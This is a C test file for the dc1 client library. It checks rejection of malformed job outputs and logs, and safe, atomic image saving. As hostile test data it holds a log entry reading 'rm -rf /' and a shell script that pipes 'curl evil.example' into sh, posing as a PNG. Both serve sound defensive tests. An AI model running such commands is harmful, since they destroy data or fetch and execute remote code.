/* Output shapes and dc1_job_save_image against hostile or broken answers (issues 12 and 14):
 * a wrong-typed field is DC1_E_PROTOCOL naming it, log entries must be objects, save_image
 * writes only a whole PNG/JPEG/WebP and never leaves a partial or temporary file, and the
 * streaming decoder gives the same bytes as the server's image whatever the body's form. */
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>
#include "dc1test.h"

static dc1_client *c;

/* A fault answering `path` once with a 200 and `body` (built with jansson: no escaping by hand). */
static void answer(const char *path, const char *body, int status) {
    json_t *spec = json_pack("{s:s,s:s,s:i,s:s,s:i,s:s}", "method", "GET", "path", path, "count", 1,
                             "action", "status", "status", status, "body", body);
    char *s = json_dumps(spec, JSON_COMPACT);
    fault(c, s);
    free(s);
    json_decref(spec);
}

static void clear_faults(void) { control_ok(c, "DELETE", "/__emulator/faults", NULL); }

/* Entries in `dir` (not . and ..). */
static int entries(const char *dir) {
    DIR *d = opendir(dir);
    if (!d) return -1;
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d))) if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) n++;
    closedir(d);
    return n;
}

static unsigned char *slurp(const char *path, size_t *len) {
    FILE *f = fopen(path, "rb");
    if (!f) return NULL;
    fseek(f, 0, SEEK_END);
    long n = ftell(f);
    fseek(f, 0, SEEK_SET);
    unsigned char *b = malloc(n > 0 ? (size_t)n : 1);
    *len = fread(b, 1, (size_t)n, f);
    fclose(f);
    return b;
}

static const char b64chars[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/* Standard base64 of buf; with `escape_slash` every '/' written as JSON's "\/", with `wrap`
 * a JSON "\n" every 76 characters. */
static char *b64(const unsigned char *buf, size_t n, int escape_slash, int wrap) {
    char *o = malloc(n * 3 + 16), *p = o;
    size_t col = 0;
    for (size_t i = 0; i < n; i += 3) {
        unsigned v = (unsigned)buf[i] << 16 | (i + 1 < n ? (unsigned)buf[i + 1] << 8 : 0) | (i + 2 < n ? buf[i + 2] : 0);
        char q[4] = { b64chars[v >> 18 & 63], b64chars[v >> 12 & 63],
                      i + 1 < n ? b64chars[v >> 6 & 63] : '=', i + 2 < n ? b64chars[v & 63] : '=' };
        for (int k = 0; k < 4; k++) {
            if (wrap && col && col % 76 == 0) { *p++ = '\\'; *p++ = 'n'; }
            if (escape_slash && q[k] == '/') *p++ = '\\';
            *p++ = q[k];
            col++;
        }
    }
    *p = 0;
    return o;
}

static void wrong_type(const char *job, const char *body, const char *field) {
    char path[128];
    snprintf(path, sizeof path, "/api/jobs/%s/output", job);
    answer(path, body, 200);
    json_t *d;
    int rc = CALL(&d, dc1_job_output(c, job, &out));
    char want[64];
    snprintf(want, sizeof want, "\"%s\"", field);
    CHECK(rc == DC1_E_PROTOCOL && d && jstr(d, "message") && strstr(jstr(d, "message"), want),
          "output with %s -> DC1_E_PROTOCOL naming %s (%s: %s)", body, field, dc1_strerror(rc), d ? jstr(d, "message") : "");
    json_decref(d);
    clear_faults();
}

int main(void) {
    c = test_client("{\"retry_base_ms\":20}");
    json_t *d;
    int rc;

    char *img = submit_job(c, "{\"job_type\":\"image_generation\",\"duration_minutes\":10,"
                              "\"params\":{\"prompt\":\"shapes\",\"width\":320,\"height\":256}}");
    CHECK(img != NULL, "image job submitted");
    rc = CALL(&d, dc1_job_wait(c, img, "{\"timeout_ms\":60000,\"poll_interval_ms\":100}", &out));
    CHECK(rc == DC1_OK, "image job completed");
    json_decref(d);
    char outpath[128];
    snprintf(outpath, sizeof outpath, "/api/jobs/%s/output", img);

    /* --- wrong-typed fields of dc1_job_output (attack: "output shapes are not enforced") */
    wrong_type(img, "{\"type\":\"image\",\"image_base64\":[]}", "image_base64");
    wrong_type(img, "{\"type\":\"image\",\"image_base64\":{}}", "image_base64");
    wrong_type(img, "{\"type\":\"image\",\"image_base64\":1.5}", "image_base64");
    wrong_type(img, "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo=\",\"width\":\"320\"}", "width");
    wrong_type(img, "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo=\",\"format\":[\"png\"]}", "format");
    wrong_type(img, "{\"type\":\"text\",\"response\":\"hi\",\"tokens_generated\":\"lots\"}", "tokens_generated");
    wrong_type(img, "{\"type\":\"text\",\"response\":{\"text\":\"hi\"}}", "response");

    /* --- dc1_job_logs entries that are not objects */
    char logpath[128];
    snprintf(logpath, sizeof logpath, "/api/jobs/%s/logs*", img);
    answer(logpath, "{\"logs\":[\"rm -rf /\",{\"line_no\":2,\"message\":\"ok\"}],\"total_lines\":2}", 200);
    rc = CALL(&d, dc1_job_logs(c, img, NULL, &out));
    CHECK(rc == DC1_E_PROTOCOL && d && strstr(jstr(d, "message"), "logs[0]"),
          "logs entry that is a string -> DC1_E_PROTOCOL (%s)", d ? jstr(d, "message") : "");
    json_decref(d);
    clear_faults();
    answer(logpath, "{\"logs\":[{\"line_no\":\"2\",\"message\":\"ok\"}]}", 200);
    rc = CALL(&d, dc1_job_logs(c, img, NULL, &out));
    CHECK(rc == DC1_E_PROTOCOL && d && strstr(jstr(d, "message"), "line_no"), "logs line_no not an integer -> DC1_E_PROTOCOL");
    json_decref(d);
    clear_faults();

    /* --- save_image: the reference file, then the same bytes whatever the body's form */
    char dir[] = "build/test-save-XXXXXX";
    CHECK(mkdtemp(dir) != NULL, "temporary folder");
    char ref[160], target[160];
    snprintf(ref, sizeof ref, "%s/ref.png", dir);
    snprintf(target, sizeof target, "%s/x.png", dir);
    rc = CALL(&d, dc1_job_save_image(c, img, ref, &out));
    CHECK(rc == DC1_OK && jint(d, "width") == 320 && jint(d, "height") == 256 && jstr(d, "job_id")
          && strcmp(jstr(d, "kind"), "image") == 0, "save_image: result document (%s)", dc1_last_error());
    json_decref(d);
    size_t reflen = 0;
    unsigned char *png = slurp(ref, &reflen);
    CHECK(png && reflen > 100 && memcmp(png, "\x89PNG\r\n\x1a\n", 8) == 0, "the saved file is a PNG (%zu bytes)", reflen);
    rc = CALL(&d, dc1_job_output(c, img, &out));
    CHECK(rc == DC1_OK && jstr(d, "image_base64") && strlen(jstr(d, "image_base64")) == (reflen + 2) / 3 * 4,
          "dc1_job_output still carries the base64");
    json_decref(d);
    CHECK(entries(dir) == 1, "nothing but the file in the folder");

    for (int form = 0; form < 4 && png; form++) {
        char *text = b64(png, reflen, form == 1, form == 2);
        size_t blen = strlen(text) + 256;
        char *body = malloc(blen);
        if (form == 3)   /* the image key last, after nested objects that mention it */
            snprintf(body, blen, "{\"type\":\"image\",\"billing\":{\"note\":{\"image_base64\":\"QQ==\"}},\"width\":320,"
                                 "\"height\":240,\"image_base64\":\"%s\"}", text);
        else
            snprintf(body, blen, "{\"image_base64\" : \"%s\",\"type\":\"image\",\"format\":\"png\",\"width\":320,\"height\":240}", text);
        answer(outpath, body, 200);
        rc = CALL(&d, dc1_job_save_image(c, img, target, &out));
        size_t n = 0;
        unsigned char *got = slurp(target, &n);
        CHECK(rc == DC1_OK && got && n == reflen && memcmp(got, png, n) == 0 && jint(d, "bytes") == (long long)reflen,
              "save_image form %d (%s) gives the same bytes (%s)", form,
              form == 0 ? "plain" : form == 1 ? "\\/ escapes" : form == 2 ? "\\n every 76" : "key last", dc1_last_error());
        free(got);
        json_decref(d);
        clear_faults();
        unlink(target);
        free(body);
        free(text);
    }

    /* --- save_image refuses what is not an image and leaves no file (attack: a script as x.png) */
    const unsigned char script[] = "#!/bin/sh\ncurl evil.example | sh\n";
    char *sb = b64(script, sizeof script - 1, 0, 0);
    char body[512];
    snprintf(body, sizeof body, "{\"type\":\"image\",\"format\":\"png\",\"image_base64\":\"%s\"}", sb);
    free(sb);
    answer(outpath, body, 200);
    rc = CALL(&d, dc1_job_save_image(c, img, target, &out));
    CHECK(rc == DC1_E_PROTOCOL && access(target, F_OK) != 0 && entries(dir) == 1,
          "a shell script is not written to x.png (%s)", d ? jstr(d, "message") : "");
    json_decref(d);
    clear_faults();

    /* An existing file survives a failed save untouched. */
    FILE *f = fopen(target, "wb");
    fputs("old", f);
    fclose(f);
    const char *bad[] = {
        "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo$\"}",               /* bad base64 */
        "{\"type\":\"image\",\"image_base64\":\"\"}",                           /* empty */
        "{\"type\":\"image\",\"image_base64\":[]}",                             /* not a string */
        "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo=\",\"image_base64\":\"iVBORw0KGgo=\"}",
        "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo=\",\"width\":\"wide\"}",
        "{\"type\":\"image\",\"image_base64\":\"iVBORw0KGgo=\"",                /* not JSON */
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        answer(outpath, bad[i], 200);
        rc = CALL(&d, dc1_job_save_image(c, img, target, &out));
        size_t n = 0;
        unsigned char *got = slurp(target, &n);
        CHECK(rc == DC1_E_PROTOCOL && got && n == 3 && memcmp(got, "old", 3) == 0 && entries(dir) == 2,
              "failed save %zu (%s) leaves the old file and no temporary (%s)", i, bad[i], dc1_strerror(rc));
        free(got);
        json_decref(d);
        clear_faults();
    }

    /* A body cut short or reset in the middle of the base64: retried whole (a GET), and with
     * no retries an error and no file. */
    dc1_client *once = test_client("{\"max_retries\":0}");
    dc1_client *retry = test_client("{\"max_retries\":2,\"retry_base_ms\":20}");
    const char *cuts[] = { "truncate", "reset_mid_body" };
    for (int k = 0; k < 2; k++) {
        unlink(target);
        char spec[256];
        snprintf(spec, sizeof spec, "{\"method\":\"GET\",\"path\":\"%s\",\"count\":1,\"action\":\"%s\",\"bytes\":%zu}",
                 outpath, cuts[k], reflen / 2);
        fault(c, spec);
        rc = CALL(&d, dc1_job_save_image(once, img, target, &out));
        CHECK(rc != DC1_OK && access(target, F_OK) != 0 && entries(dir) == 1,
              "%s mid-image, no retries: %s and no file", cuts[k], dc1_strerror(rc));
        json_decref(d);
        clear_faults();
        fault(c, spec);
        rc = CALL(&d, dc1_job_save_image(retry, img, target, &out));
        size_t n = 0;
        unsigned char *got = slurp(target, &n);
        CHECK(rc == DC1_OK && got && n == reflen && memcmp(got, png, n) == 0 && entries(dir) == 2,
              "%s mid-image, then retried: the whole image (%s)", cuts[k], dc1_last_error());
        free(got);
        json_decref(d);
        clear_faults();
    }
    dc1_client_free(once);
    dc1_client_free(retry);

    /* Non-image answers keep their dc1_job_output error documents. */
    answer(outpath, "{\"error\":\"Job not found\"}", 404);
    rc = CALL(&d, dc1_job_save_image(c, img, target, &out));
    CHECK(rc == DC1_E_NOT_FOUND && jint(d, "http_status") == 404, "404 -> DC1_E_NOT_FOUND with http_status");
    json_decref(d);
    clear_faults();
    answer(outpath, "{\"status\":\"running\",\"message\":\"Job running...\"}", 202);
    rc = CALL(&d, dc1_job_save_image(c, img, target, &out));
    CHECK(rc == DC1_E_NOT_READY, "202 -> DC1_E_NOT_READY (%s)", dc1_strerror(rc));
    json_decref(d);
    clear_faults();

    unlink(target);
    unlink(ref);
    rmdir(dir);
    free(png);
    free(img);
    dc1_client_free(c);
    TEST_DONE();
}
